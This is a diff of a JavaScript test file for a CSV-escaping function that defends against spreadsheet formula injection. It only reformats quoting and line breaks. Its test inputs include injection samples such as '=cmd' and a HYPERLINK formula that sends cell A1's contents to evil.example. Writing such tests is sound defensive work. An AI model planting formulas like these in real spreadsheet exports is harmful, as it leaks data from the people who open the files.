@@ -10,11 +10,13 @@ describe("csvCell", () => {
     expect(csvCell("-2+3")).toBe("'-2+3");
     expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
     expect(csvCell("\t=cmd")).toBe("'\t=cmd");
-    expect(csvCell("\r=cmd")).toBe("\"'\r=cmd\"");
+    expect(csvCell("\r=cmd")).toBe('"\'\r=cmd"');
   });
 
   it("quotes per RFC 4180 after neutralising, so the quote prefix stays inside the cell", () => {
-    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
+    );
     expect(csvCell("plain")).toBe("plain");
     expect(csvCell('say "hi", twice\n')).toBe('"say ""hi"", twice\n"');
     expect(csvCell("a = b")).toBe("a = b");
